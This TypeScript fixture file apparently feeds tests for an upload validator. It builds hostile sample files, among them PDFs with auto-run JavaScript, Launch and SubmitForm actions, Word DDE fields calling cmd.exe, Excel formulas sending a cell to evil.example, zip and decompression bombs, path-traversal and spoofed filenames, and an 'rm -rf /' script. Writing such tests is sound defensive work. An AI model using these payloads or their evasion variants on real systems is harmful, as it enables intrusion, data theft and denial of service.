import { deflateSync } from 'node:zlib';
import { PDFName, PDFString } from '@cantoo/pdf-lib';
import type { FileProblem } from '../../lib/files/file-problems';
import { rawPdf, relationship, relationships, sampleDocx, sampleJpeg, samplePdf, samplePng, samplePptx, sampleXlsx, streamObject } from './sample-files';
import { zipped } from './zip';

// Must show: uploads as people with bad intent make them. Each is refused with its own sentence, or stored under a name that does no harm.

export type Hostile = { why: string; name: string; make: () => Buffer | Promise<Buffer> } & ({ problem: FileProblem } | { storedAs: string });

const join = (...pieces: (Buffer | string)[]) => Buffer.concat(pieces.map((piece) => Buffer.from(piece as string)));
const HTML = '<!DOCTYPE html><html><script>alert(document.cookie)</script></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const PROGRAM = Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), Buffer.alloc(600)]);
const zip = () => zipped([['a.txt', 'x']]);
/** A zip as first encrypted by its flag. */
const flaggedEncrypted = () => {
  const bytes = sampleDocx();
  for (let at = bytes.indexOf('PK\x01\x02', 0, 'latin1'); at >= 0; at = bytes.indexOf('PK\x01\x02', at + 4, 'latin1')) bytes[at + 8]! |= 1;
  return bytes;
};
const oleFile = (words: string) => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), Buffer.from(words, 'utf16le'), Buffer.alloc(512)]);
const action = (body: string) => rawPdf({ catalog: '/OpenAction 4 0 R', objects: [body] });

const field = (words: string) => sampleDocx({ parts: [['word/header1.xml', `<w:hdr xmlns:w="x">${words}</w:hdr>`]] });
const formula = (words: string) => sampleXlsx({ parts: [['xl/worksheets/sheet1.xml', `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>${words}</f></c></row></sheetData></worksheet>`]] });
const reworded = (from: string, to: string) => Buffer.from(rawPdf().toString('latin1').replace(from, to), 'latin1');
/** Each branch of the page tree holds the next one twice. */
const manyBranches = (depth: number) =>
  rawPdf({ catalog: '/Pages 4 0 R', objects: [...Array.from({ length: depth }, (_, i) => `<< /Type /Pages /Parent 2 0 R /Count 1 /Kids [${5 + i} 0 R ${5 + i} 0 R] >>`), '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>'] });

export const hostile: Hostile[] = [
  // ---- of another kind than it says
  { why: 'a program called .pdf', name: '構成図.pdf', make: () => PROGRAM, problem: 'program' },
  { why: 'a Linux program called .docx', name: 'a.docx', make: () => join(Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(200)), problem: 'program' },
  { why: 'a shell script called .xlsx', name: 'a.xlsx', make: () => join('#!/bin/sh\nrm -rf /\n'), problem: 'program' },
  { why: 'a page of HTML called .pdf', name: 'a.pdf', make: () => join(HTML), problem: 'html' },
  { why: 'HTML in UTF-16 called .png', name: 'a.png', make: () => Buffer.from(`\ufeff${HTML}`, 'utf16le'), problem: 'html' },
  { why: 'an SVG with a script', name: '配線図.svg', make: () => join(SVG), problem: 'svg' },
  { why: 'an SVG with XML declaration called .png', name: 'a.png', make: () => join(`<?xml version="1.0"?>\n${SVG}`), problem: 'svg' },
  { why: 'a plain zip', name: 'a.zip', make: zip, problem: 'type' },
  { why: 'a Java archive called .docx', name: 'a.docx', make: () => zipped([['META-INF/MANIFEST.MF', 'Main-Class: X'], ['X.class', Buffer.from('cafebabe', 'hex')]]), problem: 'type' },
  { why: 'an old Word file', name: 'a.doc', make: () => oleFile('WordDocument'), problem: 'oldOffice' },
  { why: 'text', name: 'a.pdf', make: () => join('ただの文'), problem: 'type' },
  { why: 'nothing at all', name: 'a.pdf', make: () => Buffer.alloc(0), problem: 'empty' },
  { why: 'one byte more than is taken', name: 'a.pdf', make: () => join('%PDF-1.7\n', Buffer.alloc(20 * 1024 * 1024 - 8)), problem: 'tooLarge' },
  // ---- two files in one
  { why: 'a PDF that is a zip too', name: 'a.pdf', make: async () => join(await samplePdf(), zip()), problem: 'polyglot' },
  { why: 'a PDF that is a page of HTML too', name: 'a.pdf', make: () => rawPdf({ catalog: `/A (${HTML})` }), problem: 'polyglot' },
  { why: 'a PDF that begins as something else', name: 'a.pdf', make: async () => join('GIF89a;\n', await samplePdf()), problem: 'polyglot' },
  { why: 'a PDF with data after its end', name: 'a.pdf', make: async () => join(await samplePdf(), Buffer.alloc(4000, 'A')), problem: 'trailing' },
  { why: 'a Word file with a PDF in front', name: 'a.docx', make: async () => join(await samplePdf(), sampleDocx()), problem: 'polyglot' },
  { why: 'a Word file whose first part is a PDF', name: 'a.docx', make: () => { const pdf = rawPdf(); const bytes = sampleDocx({ parts: [['word/media/a.png', pdf]] }); return join(bytes.subarray(0, 30), '%PDF-1.4', bytes.subarray(30)); }, problem: 'polyglot' },
  { why: 'a Word file with data after its end', name: 'a.docx', make: () => join(sampleDocx(), HTML), problem: 'trailing' },
  { why: 'a PNG that is a zip too', name: 'a.png', make: () => join(samplePng(), zip()), problem: 'trailing' },
  { why: 'a PNG with a script in its text', name: 'a.png', make: () => samplePng({ extra: [['tEXt', Buffer.from(`Comment\0${HTML}`)]] }), problem: 'polyglot' },
  { why: 'a PNG with a packed script in its text', name: 'a.png', make: () => samplePng({ extra: [['zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.from(HTML))])]] }), problem: 'polyglot' },
  { why: 'a JPEG with a script in its comment', name: 'a.jpg', make: () => sampleJpeg({ comment: HTML }), problem: 'polyglot' },
  { why: 'a JPEG with data after its end', name: 'a.jpg', make: () => join(sampleJpeg(), 'PK and more'), problem: 'trailing' },
  { why: 'a picture that is a page: JPEG mark and HTML', name: 'a.jpg', make: () => join(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), HTML), problem: 'broken' },
  // ---- what runs, carries or fetches
  { why: 'a PDF with a script on opening', name: 'a.pdf', make: () => action('<< /S /JavaScript /JS (app.alert(1)) >>'), problem: 'active' },
  { why: 'the same with its names disguised', name: 'a.pdf', make: () => action('<< /S /J#61vaScript /#4a#53 (app.alert(1)) >>'), problem: 'active' },
  { why: 'the same packed into an object stream', name: 'a.pdf', make: () => samplePdf('x', { change: (pdf) => pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(pdf.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }))) }), problem: 'active' },
  { why: 'the same as a first object that a second one hides', name: 'a.pdf', make: () => rawPdf({ catalog: '/OpenAction 4 0 R', objects: ['<< /S /JavaScript /JS (x) >>', '<< >>\nendobj\n4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>'] }), problem: 'active' },
  { why: 'a PDF that starts a program', name: 'a.pdf', make: () => action('<< /S /Launch /F (calc.exe) >>'), problem: 'active' },
  { why: 'a PDF that sends a form by itself', name: 'a.pdf', make: () => action('<< /S /SubmitForm /F (https://evil.example/) >>'), problem: 'active' },
  { why: 'a PDF that opens an address by itself', name: 'a.pdf', make: () => action('<< /S /URI /URI (https://evil.example/) >>'), problem: 'active' },
  { why: 'a PDF with a file inside', name: 'a.pdf', make: () => samplePdf('x', { change: (pdf) => pdf.attach(new Uint8Array(PROGRAM), 'a.exe', {}) }), problem: 'embedded' },
  { why: 'a PDF whose link leads into the file server', name: 'a.pdf', make: () => rawPdf({ page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file://server/share) >> >>]' }), problem: 'external' },
  { why: 'a PDF that goes on in another file', name: 'a.pdf', make: () => rawPdf({ page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>]' }), problem: 'external' },
  { why: 'a locked PDF', name: 'a.pdf', make: () => samplePdf('x', { change: (pdf) => pdf.encrypt({ userPassword: 'x', ownerPassword: 'y' }) }), problem: 'encrypted' },
  { why: 'a locked Word file', name: 'a.docx', make: () => oleFile('EncryptedPackage'), problem: 'encrypted' },
  { why: 'a Word file with locked parts', name: 'a.docx', make: flaggedEncrypted, problem: 'encrypted' },
  { why: 'a Word file with macros called .docx', name: 'a.docx', make: () => sampleDocx({ type: 'application/vnd.ms-word.document.macroEnabled.main+xml', parts: [['word/vbaProject.bin', 'x']] }), problem: 'macros' },
  { why: 'macros under another name', name: 'a.docx', make: () => sampleDocx({ types: '<Override PartName="/word/theme.xml" ContentType="application/vnd.ms-office.vbaProject"/>', parts: [['word/theme.xml', '<a/>']] }), problem: 'macros' },
  { why: 'an Excel file with a sheet of old macros', name: 'a.xlsx', make: () => sampleXlsx({ parts: [['xl/macrosheets/sheet1.xml', '<a/>']] }), problem: 'macros' },
  { why: 'a PowerPoint file with an embedded object', name: 'a.pptx', make: () => samplePptx({ parts: [['ppt/embeddings/oleObject1.bin', 'x']] }), problem: 'embedded' },
  { why: 'a Word file with a program for a picture', name: 'a.docx', make: () => sampleDocx({ parts: [['word/media/image1.png', PROGRAM]] }), problem: 'embedded' },
  { why: 'a Word file that fetches its template', name: 'a.docx', make: () => sampleDocx({ parts: [['word/_rels/settings.xml.rels', relationships(relationship('attachedTemplate', 'https://evil.example/a.dotm', true))]] }), problem: 'external' },
  { why: 'a Word file whose picture is on the file server', name: 'a.docx', make: () => sampleDocx({ parts: [['word/_rels/document.xml.rels', relationships(relationship('image', '\\\\server\\share\\a.png', true))]] }), problem: 'external' },
  { why: 'a Word field that asks another program', name: 'a.docx', make: () => sampleDocx({ parts: [['word/header1.xml', '<w:hdr xmlns:w="x"><w:instrText>DDE</w:instrText><w:instrText xml:space="preserve">AUTO c:\\\\cmd.exe</w:instrText></w:hdr>']] }), problem: 'external' },
  { why: 'an Excel file with connections', name: 'a.xlsx', make: () => sampleXlsx({ parts: [['xl/connections.xml', '<a/>']] }), problem: 'external' },
  { why: 'a script in an SVG inside a Word file', name: 'a.docx', make: () => sampleDocx({ parts: [['word/media/image1.svg', SVG]] }), problem: 'active' },
  { why: 'entities that grow without end', name: 'a.docx', make: () => sampleDocx({ parts: [['word/styles.xml', '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>']] }), problem: 'unsafeXml' },
  { why: 'the same field behind another one, cut so that no word begins there', name: 'a.docx', make: () => field('<w:instrText>PAGE</w:instrText><w:instrText a=">">DDEA</w:instrText><w:instrText>UTO c:\\cmd.exe</w:instrText>'), problem: 'external' },
  { why: 'the same field in numbers for its letters', name: 'a.docx', make: () => field('<w:instrText>&#68;&#x44;EAUTO c:\\cmd.exe</w:instrText>'), problem: 'external' },
  { why: 'the same field unescaped, around a comment', name: 'a.docx', make: () => field('<w:instrText><![CDATA[DDE]]><!-- x -->AUTO c:\\cmd.exe</w:instrText>'), problem: 'external' },
  { why: 'the same field under another prefix, in another folder', name: 'a.docx', make: () => sampleDocx({ parts: [['x/y.xml', '<q:hdr xmlns:q="x"><q:fldSimple q:instr="DDEAUTO c:\\cmd.exe"/></q:hdr>']] }), problem: 'external' },
  { why: 'a Word part in an encoding that hides its DOCTYPE', name: 'a.docx', make: () => sampleDocx({ parts: [['word/header1.xml', '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-<a/>']] }), problem: 'unsafeXml' },
  { why: 'a Word file whose picture is fetched, a space before its address', name: 'a.docx', make: () => sampleDocx({ parts: [['word/_rels/document.xml.rels', relationships(relationship('image', ' https://evil.example/a.png'))]] }), problem: 'external' },
  { why: 'an Excel link to another program, under another name and prefix', name: 'a.xlsx', make: () => sampleXlsx({ parts: [['xl/foo.xml', '<x:externalLink xmlns:x="x"><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>']] }), problem: 'external' },
  { why: 'an Excel link to another file, under another name', name: 'a.xlsx', make: () => sampleXlsx({ parts: [['xl/_rels/workbook.xml.rels', relationships(relationship('externalLink', 'foo.xml'))]] }), problem: 'external' },
  { why: 'an Excel formula that starts a program', name: 'a.xlsx', make: () => formula(`cmd|'/c calc'!A0`), problem: 'external' },
  { why: 'an Excel formula that sends a cell away', name: 'a.xlsx', make: () => formula('_xlfn.WEBSERVICE("https://evil.example/?"&amp;A2)'), problem: 'external' },
  { why: 'old macros in a part that is called a sheet', name: 'a.xlsx', make: () => sampleXlsx({ types: '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>', parts: [['xl/worksheets/sheet1.xml', '<a/>']] }), problem: 'macros' },
  { why: 'a drawing in a Word file that fetches a picture', name: 'a.docx', make: () => sampleDocx({ parts: [['word/media/image1.svg', '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a.png"/></svg>']] }), problem: 'external' },
  { why: 'a locked PDF that says so behind a comment', name: 'a.pdf', make: () => Buffer.from(rawPdf({ objects: ['<< /Filter /Standard /V 1 /R 2 /P -4 >>'] }).toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt%x\n4 0 R'), 'latin1'), problem: 'encrypted' },
  // ---- what could be kept and not be opened with the reader's name on it
  { why: 'a PDF whose page has no size', name: 'a.pdf', make: () => reworded('/MediaBox [0 0 595 842]', ''), problem: 'broken' },
  { why: 'a PDF whose page has a word for a side', name: 'a.pdf', make: () => reworded('[0 0 595 842]', '[0 (a) 5 842]'), problem: 'broken' },
  { why: 'a PDF whose page has a number for content', name: 'a.pdf', make: () => rawPdf({ page: '/Contents 7' }), problem: 'broken' },
  { why: 'a PDF whose page has a number for its fonts', name: 'a.pdf', make: () => rawPdf({ page: '/Resources 7' }), problem: 'broken' },
  { why: 'a PDF whose page does not say that it is one', name: 'a.pdf', make: () => reworded('/Type /Page /Parent', '/Parent'), problem: 'broken' },
  // ---- bombs and what is broken
  { why: 'a PDF whose few pages hang in the tree thousands of millions of times', name: 'a.pdf', make: () => manyBranches(32), problem: 'broken' },
  { why: 'a PDF whose page tree bites its tail', name: 'a.pdf', make: () => reworded('/Kids [3 0 R]', '/Kids [2 0 R]'), problem: 'broken' },
  { why: 'a PDF whose objects unpack without end, the word before them spaced', name: 'a.pdf', make: () => rawPdf({ objects: [Buffer.from(streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(50 * 1024 * 1024, ' '))).toString('latin1').replace('stream\n', 'stream \r\n'), 'latin1')] }), problem: 'bomb' },
  { why: 'the same, what they are said elsewhere', name: 'a.pdf', make: () => rawPdf({ objects: ['/ObjStm', streamObject('/Type 4 0 R /N 1 /First 4 /X ( obj) /Filter /FlateDecode', deflateSync(Buffer.alloc(50 * 1024 * 1024, ' ')))] }), problem: 'bomb' },
  { why: 'the same, packed twice', name: 'a.pdf', make: () => rawPdf({ objects: [streamObject('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode%\n/FlateDecode]', deflateSync(deflateSync(Buffer.alloc(50 * 1024 * 1024, ' '))))] }), problem: 'bomb' },
  { why: 'a zip bomb', name: 'a.docx', make: () => sampleDocx({ parts: [['word/media/image1.bmp', Buffer.alloc(250 * 1024 * 1024)]] }), problem: 'bomb' },
  { why: 'a zip bomb that lies about its size', name: 'a.docx', make: () => sampleDocx({ parts: [['word/media/image1.bmp', Buffer.alloc(40 * 1024 * 1024)]], lie: { 'word/media/image1.bmp': 1000 } }), problem: 'bomb' },
  { why: 'a PDF whose page unpacks to a third of a gigabyte', name: 'a.pdf', make: () => rawPdf({ page: '/Contents 4 0 R', objects: [streamObject('/Filter /FlateDecode', deflateSync(Buffer.alloc(300 * 1024 * 1024)))] }), problem: 'bomb' },
  { why: 'a PDF whose objects unpack without end', name: 'a.pdf', make: () => rawPdf({ objects: [streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(50 * 1024 * 1024, ' ')))] }), problem: 'bomb' },
  { why: 'a PNG that unpacks to more than its size', name: 'a.png', make: () => samplePng({ data: Buffer.alloc(30_000_000) }), problem: 'bomb' },
  { why: 'a PNG of a thousand million dots', name: 'a.png', make: () => samplePng({ width: 29_000, height: 29_000, data: Buffer.alloc(10) }), problem: 'bomb' },
  { why: 'half a PDF', name: 'a.pdf', make: async () => { const bytes = await samplePdf(); return bytes.subarray(0, bytes.length / 2); }, problem: 'broken' },
  { why: 'a PDF that is its first line and its last', name: 'a.pdf', make: () => join('%PDF-1.7\n%%EOF\n'), problem: 'broken' },
  { why: 'half a Word file', name: 'a.docx', make: () => { const bytes = sampleDocx(); return bytes.subarray(0, bytes.length / 2); }, problem: 'broken' },
  { why: 'a Word file with a way out of its folder', name: 'a.docx', make: () => sampleDocx({ parts: [['../../../../etc/cron.d/x.xml', '<a/>']] }), problem: 'broken' },
  { why: 'a PNG with a wrong sum', name: 'a.png', make: () => { const bytes = samplePng(); bytes[20]! ^= 1; return bytes; }, problem: 'broken' },
  // ---- in the name
  { why: 'a way out of the folder in the name', name: '../../../etc/passwd', make: () => samplePdf(), storedAs: 'passwd.pdf' },
  { why: 'a Windows path in the name', name: 'C:\\Windows\\System32\\構成図.pdf', make: () => samplePdf(), storedAs: '構成図.pdf' },
  { why: 'a name that reads backwards, and a second ending', name: '構成\u202Efdp.exe', make: () => samplePdf(), storedAs: '構成fdp.pdf' },
  { why: 'markup and a line break in the name', name: '"><script>alert(1)</script>\r\nX: y.pdf', make: () => samplePdf(), storedAs: 'scriptX y.pdf' },
  { why: 'a device for a name', name: 'con.docx', make: () => sampleDocx(), storedAs: '資料con.docx' },
  { why: 'a dot and nothing for a name', name: '.pdf', make: () => samplePdf(), storedAs: '資料.pdf' },
  { why: 'a picture called a program', name: 'a.exe', make: () => samplePng(), storedAs: 'a.png' },
  { why: 'a very long name', name: `${'𠮷'.repeat(300)}.pdf`, make: () => samplePdf(), storedAs: `${'𠮷'.repeat(80)}.pdf` },
];
